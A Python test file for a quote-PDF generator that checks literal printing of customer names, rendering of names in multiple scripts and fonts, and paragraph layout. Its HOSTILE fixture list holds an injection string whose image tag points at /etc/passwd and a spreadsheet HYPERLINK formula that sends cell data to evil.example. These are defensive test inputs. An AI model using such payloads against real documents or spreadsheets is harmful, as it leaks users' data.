"""The quote PDF's text: customer text printed literally, names in any script, paragraphs laid out as reportlab would."""

from __future__ import annotations

import io
import shutil
import subprocess

import pytest
from pdf_helpers import all_text, render
from pypdf import PdfReader
from reportlab.platypus import Paragraph

from cpiquote.documents.pdf.text import Para, make_styles
from cpiquote.pricing import PriceBook, QuoteRequest

HOSTILE = ['<b>x</b> & "q" <img src="/etc/passwd">', '=HYPERLINK("http://evil.example/?x="&A1,"click")', "<para>&amp; </font>"]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_customer_text_prints_literally_and_loads_nothing(sample_pricebook: PriceBook, name: str) -> None:
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    squeezed = all_text(data).replace(" ", "")  # a long word may be split over two lines
    assert squeezed.count(name.replace(" ", "")) >= 3  # customer, contact and the signature block
    assert sum(len(page.images) for page in PdfReader(io.BytesIO(data)).pages) == 1  # the logo, nothing the name pointed at


SCRIPTS = {"greek": "Ελληνικές Τηλεπικοινωνίες Α.Ε.", "cyrillic": "ООО «Ромашка» Москва", "chinese": "北京星辰科技有限公司",
           "japanese": "株式会社ひかり 山田太郎", "korean": "삼성전자 주식회사 김민수", "mixed": "Acme 東京 (Ωmega)"}  # fmt: skip

CJK_FONT = {"chinese": b"STSong-Light", "japanese": b"HeiseiKakuGo-W5", "korean": b"HYGothic-Medium", "mixed": b"STSong-Light"}


@pytest.mark.parametrize("script", SCRIPTS)
def test_names_in_other_scripts_read_back_as_written(sample_pricebook: PriceBook, script: str) -> None:
    name = SCRIPTS[script]
    _, data = render(sample_pricebook, QuoteRequest((100_000,), 1, customer=name, contact=name))
    assert name in all_text(data)
    assert b"/FontFile2" in data  # DejaVu Sans is embedded, so Latin, Greek and Cyrillic print anywhere
    if script in CJK_FONT:
        assert CJK_FONT[script] in data  # the CJK run switched to a CID font that has its glyphs
    if shutil.which("pdftotext"):
        extracted = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True).stdout.decode()
        assert name in " ".join(extracted.split())


@pytest.mark.parametrize(
    "text", ["24 hours a day, in the subscription", "  runs of   spaces\n and a line break ", "Ελένη Παπαδοπούλου", "1\xa0234\xa0€", ""]
)
def test_plain_text_paragraph_breaks_lines_as_reportlab_would(text: str) -> None:
    """Plain text skips reportlab's markup parser: the fragments, lines and height must be what the parser gives."""
    style = make_styles("#224422", "#88AA88").body
    ours, theirs = Para(text, style), Paragraph(text, style)
    assert [frag.__dict__ for frag in ours.frags] == [frag.__dict__ for frag in theirs.frags]
    assert ours.wrap(60, 500) == theirs.wrap(60, 500)
    assert ours.blPara.lines == theirs.blPara.lines


def test_paragraph_split_over_a_page_break_keeps_every_word() -> None:
    style = make_styles("#224422", "#88AA88").body
    words = [f"word{i}" for i in range(120)]
    paragraph = Para(" ".join(words), style)
    _, height = paragraph.wrap(200, 10_000)
    assert paragraph.split(200, style.leading * 1.5) == []  # one line only: the whole paragraph moves to the next page
    assert paragraph.wrap(200, 10_000) == (200, height)  # and still lays out there
    first, rest = paragraph.split(200, height / 2)
    printed = [word for part in (first, rest) for _, line in (part.wrap(200, 10_000) and part.blPara.lines) for word in line]
    assert printed == words
